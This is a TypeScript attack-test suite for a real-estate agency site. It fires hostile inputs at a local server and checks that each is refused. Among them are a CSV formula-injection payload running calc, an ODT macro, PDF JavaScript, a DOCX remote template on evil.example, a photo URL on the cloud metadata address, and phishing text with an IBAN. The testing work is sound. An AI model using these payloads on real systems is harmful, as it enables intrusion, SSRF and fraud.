/**
 * The attacks of running unattended, second pass: a broken CRM answer, a runaway CRM, a
 * stranger's words in the agency's voice, hostile uploads, unbounded bodies, a leads CSV
 * that runs formulas, a made-up demand register, and an account told apart by timing.
 * Each runs against `npm start` as an attacker (or a failing CRM) would.
 */
import { spawn } from 'node:child_process';
import { createServer } from 'node:http';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import sharp from 'sharp';
import { storedZip } from '../../../test/fixtures/files.ts';

export interface AttackKit {
  base: string;
  stamp: string;
  form: (path: string, fields: Record<string, string> | URLSearchParams | FormData, headers?: Record<string, string>) => Promise<Response>;
  address: (i: number) => Record<string, string>;
  command: (script: string, args: string[], env?: Record<string, string>) => { status: number | null; stdout: string; stderr: string };
  mailsTo: (to: string, atLeast?: number, waitMs?: number) => Promise<{ to: string; kind: string; subject: string; text: string; html: string; headers: Record<string, string> }[]>;
  report: (attack: string, result: string, held: boolean) => void;
}

type Row = Record<string, unknown>;
export const demo = (): Row[] => JSON.parse(readFileSync('content/demo/properties.json', 'utf8')) as Row[];

/** crm:sync of the demo with `change` applied to every record: its exit code. */
export function syncWith(kit: AttackKit, name: string, records: Row[]): number | null {
  const dir = mkdtempSync(path.join(tmpdir(), 'vitrine-attack-'));
  const file = path.join(dir, `${name}.json`);
  writeFileSync(file, JSON.stringify(records));
  return kit.command('scripts/crm-sync.ts', ['--file', file, '--json', '--site', kit.base]).status;
}

export async function priceOf(kit: AttackKit, id: number): Promise<string> {
  const points = (await (await fetch(`${kit.base}/api/map-points/fr/sale`)).json()) as { points?: { id: number; price: number | null }[] };
  const point = points.points?.find((p) => p.id === id);
  return point ? String(point.price) : 'not listed';
}

async function brokenAnswers(kit: AttackKit): Promise<void> {
  const before = await priceOf(kit, 2041);
  const zero = syncWith(
    kit,
    'zero',
    demo().map((r) => ({ ...r, Price: 0 })),
  );
  const cents = syncWith(
    kit,
    'cents',
    demo().map((r) => ({ ...r, Price: typeof r.Price === 'number' ? r.Price / 100 : r.Price })),
  );
  const sold = syncWith(
    kit,
    'sold',
    demo().map((r) => ({ ...r, Status: r.Goal === 0 ? 'sold' : 'rented' })),
  );
  const after = await priceOf(kit, 2041);
  kit.report(
    'crm:sync with every price 0, then in cents, then every listing sold',
    `exit ${zero} / ${cents} / ${sold}; 2041 at ${before} → ${after}`,
    zero === 3 && cents === 3 && sold === 3 && before === after,
  );
}

async function absurdRecord(kit: AttackKit): Promise<void> {
  // A first sync keeps the records as published, which a held-back listing falls back to.
  syncWith(kit, 'baseline', demo());
  const before = await priceOf(kit, 2041);
  const records = demo().map((r) =>
    r.ID === 2041
      ? { ...r, Price: 1e308 }
      : r.ID === 2042
        ? { ...r, Photos: [{ ID: 1, Url: 'https://169.254.169.254/latest/meta-data/x.jpg', Width: 10, Height: 10 }, ...((r.Photos as unknown[]) ?? [])] }
        : r,
  );
  const exit = syncWith(kit, 'absurd', records);
  const after = await priceOf(kit, 2041);
  const page = await (await fetch(`${kit.base}/api/map-points/fr/sale`)).text();
  kit.report(
    'crm:sync with one price of 1e308 and a photo on 169.254.169.254',
    `exit ${exit}; 2041 at ${before} → ${after}; metadata address ${page.includes('169.254') ? 'published' : 'left out'}`,
    exit === 0 && after === before && !page.includes('169.254'),
  );
  // Back to the demo as it was.
  syncWith(kit, 'restore', demo());
}

async function runawayCrm(kit: AttackKit): Promise<void> {
  let calls = 0;
  // A full page of 100 (the demo's 75 and copies), so the client asks for the next one.
  const items = [
    ...demo(),
    ...demo()
      .slice(0, 25)
      .map((r, i) => ({ ...r, ID: 9000 + i, RecordFile: `VI-${9000 + i}` })),
  ].map((r) => ({ ...r, SubStatus: 1 }));
  const server = createServer((_req, res) => {
    calls += 1;
    res.setHeader('Content-Type', 'application/json');
    // A CRM that ignores Offset: the same 100 items on every page.
    res.end(JSON.stringify({ GetPropertyListJsonResult: { Success: true, Value: { Items: items, RowCount: 100 } } }));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  const started = Date.now();
  const child = spawn('node', ['scripts/crm-sync.ts', '--local', '--pull', '--json', '--site', kit.base], {
    env: { ...process.env, CRM_ADAPTER: 'omnicasa', CRM_FEED_URL: `http://127.0.0.1:${port}/api`, CRM_USER: 'agency', CRM_PASSWORD: 'secret' },
    stdio: 'ignore',
  });
  const exit = await Promise.race([new Promise<number | null>((resolve) => child.on('exit', resolve)), new Promise<'killed'>((resolve) => setTimeout(() => resolve('killed'), 120_000))]);
  if (exit === 'killed') child.kill('SIGKILL');
  server.close();
  kit.report('crm:sync --pull from an Omnicasa that ignores Offset', `exit ${exit} after ${calls} requests in ${((Date.now() - started) / 1000).toFixed(1)} s`, exit === 1 && calls <= 3);
}

async function friendFraud(kit: AttackKit): Promise<void> {
  const to = `victim-${kit.stamp}@example.be`;
  await kit.form(
    '/forms/send-to-friend',
    {
      lang: 'fr',
      back: '/fr/',
      name: 'Service comptable https://pay.evil.example',
      email: `fraud-${kit.stamp}@example.be`,
      friendEmail: to,
      message: 'Acompte de 5.000 € à verser sur BE71 0961 2345 6769 avant vendredi.',
      propertyId: '2058',
    },
    kit.address(200),
  );
  const [mail] = await kit.mailsTo(to);
  const leaks = mail
    ? [
        /comptable|evil/.test(mail.subject) && 'subject',
        /BE71 0961/.test(mail.text + mail.html) && 'account number',
        /https:\/\/pay\.evil/.test(mail.text + mail.html) && 'live link',
        mail.headers['Reply-To'] && 'Reply-To',
      ].filter(Boolean)
    : ['no mail'];
  kit.report(
    'a friend mail whose name is a link and whose note asks for a payment to an IBAN',
    mail ? `subject ${JSON.stringify(mail.subject)}; ${leaks.length ? `carries ${leaks.join(', ')}` : 'account hidden, links inert, no Reply-To'}` : 'no mail',
    leaks.length === 0,
  );
}

async function linksInShortFields(kit: AttackKit, inbox: string): Promise<void> {
  const mark = `Lnk${kit.stamp}`;
  await kit.form(
    '/forms/contact-demand',
    {
      lang: 'fr',
      back: '/fr/',
      title: 'mr',
      firstName: mark,
      lastName: 'https://evil-phish.example/reset',
      email: `links-${kit.stamp}@example.be`,
      phone: '0475123456',
      street: 'www.evil-phish.example',
      zip: '5000',
      city: 'Namur',
      propertyType: 'apartment',
    },
    kit.address(201),
  );
  const until = Date.now() + 20_000;
  let mail;
  while (!mail && Date.now() < until) {
    mail = (await kit.mailsTo(inbox, 1, 0)).find((m) => m.subject.includes(mark));
    if (!mail) await new Promise((resolve) => setTimeout(resolve, 1000));
  }
  const live = mail ? /https?:\/\/evil|www\.evil/.test(mail.subject + mail.text + mail.html) : true;
  kit.report('a valuation request whose last name and street are links', mail ? JSON.stringify(mail.subject) : 'no agency mail', Boolean(mail) && !live);
}

async function gmailDots(kit: AttackKit): Promise<void> {
  const statuses: number[] = [];
  const user = `jan${kit.stamp}`;
  const variants = [
    `${user}@gmail.com`,
    `${user.slice(0, 1)}.${user.slice(1)}@gmail.com`,
    `${user}@googlemail.com`,
    `${user.slice(0, 2)}.${user.slice(2)}@gmail.com`,
    `${user.slice(0, 1)}.${user.slice(1, 3)}.${user.slice(3)}@googlemail.com`,
    `${user}+x@gmail.com`,
  ];
  for (const [i, email] of variants.entries()) statuses.push((await kit.form('/forms/sign-newsletter', { lang: 'fr', back: '/fr/', email }, kit.address(202 + i))).status);
  kit.report('6 newsletter sign-ups for one Gmail inbox, written with dots and googlemail.com', statuses.join(' '), statuses.filter((s) => s === 200 || s === 303).length <= 3);
}

async function hostileUploads(kit: AttackKit): Promise<void> {
  const files: [string, BlobPart][] = [
    [
      'macro.odt',
      storedZip([
        { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text' },
        { name: 'content.xml', data: '<office:document-content/>' },
        { name: 'Basic/Standard/Module1.xml', data: 'Sub Main\nShell("calc")\nEnd Sub' },
      ]),
    ],
    ['script.pdf', '%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\nxref\n0 1\n0000000000 65535 f \ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n'],
    ['page.pdf', '%PDF-1.4\n<html><script>fetch("/")</script></html>\n%%EOF\n'],
    [
      'template.docx',
      storedZip([
        { name: '[Content_Types].xml', data: '<Types/>' },
        { name: 'word/document.xml', data: '<w:document/>' },
        {
          name: 'word/_rels/settings.xml.rels',
          data: '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        },
      ]),
    ],
  ];
  const statuses: string[] = [];
  for (const [i, [name, content]] of files.entries()) {
    const body = new FormData();
    for (const [k, v] of Object.entries({ lang: 'fr', back: '/fr/', title: 'ms', firstName: 'Eve', lastName: 'S', email: `cv${i}-${kit.stamp}@example.be`, phone: '0475123456' })) body.set(k, v);
    body.set('cv', new File([content], name));
    const response = await kit.form('/forms/job-application', body, kit.address(210 + i));
    statuses.push(`${name} ${response.status}`);
  }
  kit.report(
    'CVs: an ODT with a macro, a PDF with JavaScript, a web page as PDF, a DOCX with a remote template',
    statuses.join(', '),
    statuses.every((s) => s.endsWith('422')),
  );
}

async function embeddedGps(kit: AttackKit): Promise<void> {
  // A phone photo as an MPF camera writes it: the picture, then a second JPEG with its own EXIF and GPS.
  const picture = await sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 90, g: 140, b: 60 } } })
    .jpeg()
    .toBuffer();
  const embedded = await sharp({ create: { width: 16, height: 12, channels: 3, background: { r: 1, g: 2, b: 3 } } })
    .withExif({ IFD0: { Copyright: 'Embedded' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '50/1 27/1 54/1', GPSLongitudeRef: 'E', GPSLongitude: '4/1 51/1 57/1' } })
    .jpeg()
    .toBuffer();
  const carrier = Buffer.concat([picture, embedded]);
  const body = new FormData();
  for (const [k, v] of Object.entries({ lang: 'fr', back: '/fr/', name: `Gps ${kit.stamp}`, comment: 'Très bonne agence, merci !', consent: 'yes' })) body.set(k, v);
  body.set('image', new File([carrier], 'photo.jpg'));
  const response = await kit.form('/forms/testimonial', body, kit.address(215));
  const csv = kit.command('scripts/leads.ts', ['--kind', 'testimonial', '--csv']);
  const key = new RegExp(`uploads/testimonial/[0-9a-f-]{36}\\.jpg`).exec(csv.stdout.split('\n').find((l) => l.includes(`Gps ${kit.stamp}`)) ?? '')?.[0];
  const out = path.join(mkdtempSync(path.join(tmpdir(), 'vitrine-attack-')), 'photo.jpg');
  const fetched = key ? kit.command('scripts/leads.ts', ['--file', key, '--out', out]).status === 0 : false;
  const stored = fetched ? readFileSync(out).toString('latin1') : '';
  // GPS tags are binary: the Copyright written beside them in the same EXIF tells whether it survived.
  kit.report(
    'a testimonial photo carrying a second JPEG with GPS 50°27′54″N',
    `${response.status}; stored ${fetched ? `${stored.length} bytes, ${stored.includes('Exif') ? 'with' : 'without'} EXIF` : 'nothing found'}`,
    fetched && !stored.includes('Exif') && !stored.includes('Embedded'),
  );
}

async function unboundedBodies(kit: AttackKit): Promise<void> {
  const results: string[] = [];
  const held: boolean[] = [];
  for (const target of ['/api/visits', `/alerts/manage/${'ab'.repeat(32)}/`]) {
    let sent = 0;
    const chunk = new Uint8Array(256 * 1024).fill(0x61);
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent >= 80 * 1024 * 1024) return controller.close();
        sent += chunk.byteLength;
        controller.enqueue(chunk);
      },
    });
    const started = Date.now();
    const status = await fetch(`${kit.base}${target}`, {
      method: 'POST',
      body: stream,
      duplex: 'half',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded', Origin: new URL(kit.base).origin, 'Sec-Fetch-Site': 'same-origin' },
    } as RequestInit)
      .then((r) => r.status)
      .catch(() => 'closed');
    // Refused: a 413, or the connection closed by the site long before the 80 MB were read.
    held.push(status === 413 || (status === 'closed' && sent < 80 * 1024 * 1024));
    results.push(`${target.slice(0, 15)}… ${status} after ${Math.round(sent / 1024 / 1024)} MB offered in ${Date.now() - started} ms`);
  }
  kit.report('80 MB bodies to a page view and an alert change with any token', results.join('; '), held.every(Boolean));
}

async function csvFormulas(kit: AttackKit): Promise<void> {
  await kit.form(
    '/forms/site-contact',
    {
      lang: 'fr',
      back: '/fr/',
      title: 'mr',
      firstName: `Jan;=cmd|' /C calc'!A0;${kit.stamp}`,
      lastName: '=HYPERLINK("https://evil.example")',
      email: `csv-${kit.stamp}@example.be`,
      phone: '0475123456',
      message: '+32 475',
    },
    kit.address(216),
  );
  const csv = kit.command('scripts/leads.ts', ['--kind', 'site-contact', '--csv']).stdout;
  const line = csv.split('\r\n').find((l) => l.includes(kit.stamp)) ?? '';
  // Split as carelessly as a spreadsheet can: on every ';' and ',', quotes ignored. No piece may start a formula.
  const cells = line.split(/[;,]/).map((c) => c.replace(/^[\s"]+/, ''));
  const live = cells.filter((c) => /^[=+\-@]/.test(c));
  kit.report(
    'a contact whose first name is "Jan;=cmd|\' /C calc\'!A0;", exported with npm run leads -- --csv',
    line ? `${cells.length} piece(s) when cut at every ';' and ',', ${live.length} formula(s)` : 'not exported',
    line !== '' && live.length === 0,
  );
}

async function madeUpTypes(kit: AttackKit): Promise<void> {
  const body = new URLSearchParams({
    lang: 'fr',
    back: '/fr/',
    title: 'ms',
    firstName: 'Eve',
    lastName: 'S',
    email: `types-${kit.stamp}@example.be`,
    phone: '0475123456',
    goal: 'sale',
    zones: 'Namur',
  });
  for (let i = 0; i < 10; i++) body.append('types', `x${i}`);
  const response = await kit.form('/forms/demand-register', body, kit.address(217));
  kit.report('a demand register naming 10 made-up property types', String(response.status), response.status === 422);
}

async function resetTiming(kit: AttackKit): Promise<void> {
  // An owner of its own: forty resets spend that owner's daily budget, not the demo owner's.
  const username = `timing${kit.stamp}`;
  kit.command('scripts/owners.ts', ['add', '--username', username, '--email', `${username}@example.be`, '--password', 'timing-attack-password-1']);
  const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)] ?? 0;
  const time = async (username: string, i: number) => {
    const started = performance.now();
    await kit.form('/fr/login/mot-de-passe-oublie/', { username }, { ...kit.address(100 + (i % 100)), Accept: 'text/html' });
    return performance.now() - started;
  };
  const known: number[] = [];
  const unknown: number[] = [];
  for (let i = 0; i < 40; i++) {
    known.push(await time(username, i));
    unknown.push(await time(`nobody-${kit.stamp}-${i}@example.be`, i));
  }
  const [k, u] = [median(known), median(unknown)];
  kit.report('"forgot password" for an existing and an unknown account, 40 each, alternating', `medians ${k.toFixed(1)} vs ${u.toFixed(1)} ms`, Math.abs(k - u) < Math.max(2, 0.1 * u));
}

async function hookSignature(secret: string, body: string): Promise<string> {
  const key = await crypto.subtle.importKey('raw', new TextEncoder().encode(secret), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
  return Buffer.from(await crypto.subtle.sign('HMAC', key, new TextEncoder().encode(body))).toString('hex');
}

/**
 * A forged and a replayed listing webhook (SweepBright's): unsigned, signed with a guessed
 * secret, and, given the client secret of a local test set-up (`--crm-secret`), the same
 * signed announcement twice and one caught twenty minutes ago. A site whose CRM does not
 * push answers 404 to all of it.
 */
async function forgedWebhooks(kit: AttackKit, secret: string | undefined): Promise<void> {
  const post = (body: string, signature?: string) =>
    fetch(`${kit.base}/crm/webhook`, { method: 'POST', headers: { 'Content-Type': 'application/json', ...(signature ? { 'X-Hook-Signature': signature } : {}) }, body });
  const announcement = (at: Date) => JSON.stringify({ event: 'estate-deleted', estate_id: `attack-${kit.stamp}`, happened_at: at.toISOString() });
  const body = announcement(new Date());
  const unsigned = await post(body);
  kit.report('webhook without a signature', `${unsigned.status}`, unsigned.status === 401 || unsigned.status === 404);
  const guessed = await post(body, await hookSignature('guessed-secret', body));
  kit.report('webhook signed with a guessed secret', `${guessed.status}`, guessed.status === 401 || guessed.status === 404);
  if (!secret) return;
  const signed = await hookSignature(secret, body);
  const first = await post(body, signed);
  const again = await post(body, signed);
  kit.report('the same signed webhook sent twice', `${first.status} then ${again.status}`, first.status === 202 && again.status === 409);
  const old = announcement(new Date(Date.now() - 20 * 60_000));
  const stale = await post(old, await hookSignature(secret, old));
  kit.report('a signed webhook caught 20 minutes ago', `${stale.status}`, stale.status === 401);
}

export function unattendedAttacks(kit: AttackKit, inbox: string, crmSecret?: string): Record<string, () => Promise<void>> {
  return {
    forgedWebhooks: () => forgedWebhooks(kit, crmSecret),
    friendFraud: () => friendFraud(kit),
    linksInShortFields: () => linksInShortFields(kit, inbox),
    gmailDots: () => gmailDots(kit),
    hostileUploads: () => hostileUploads(kit),
    embeddedGps: () => embeddedGps(kit),
    unboundedBodies: () => unboundedBodies(kit),
    csvFormulas: () => csvFormulas(kit),
    madeUpTypes: () => madeUpTypes(kit),
    resetTiming: () => resetTiming(kit),
    runawayCrm: () => runawayCrm(kit),
    absurdRecord: () => absurdRecord(kit),
    brokenAnswers: () => brokenAnswers(kit),
  };
}
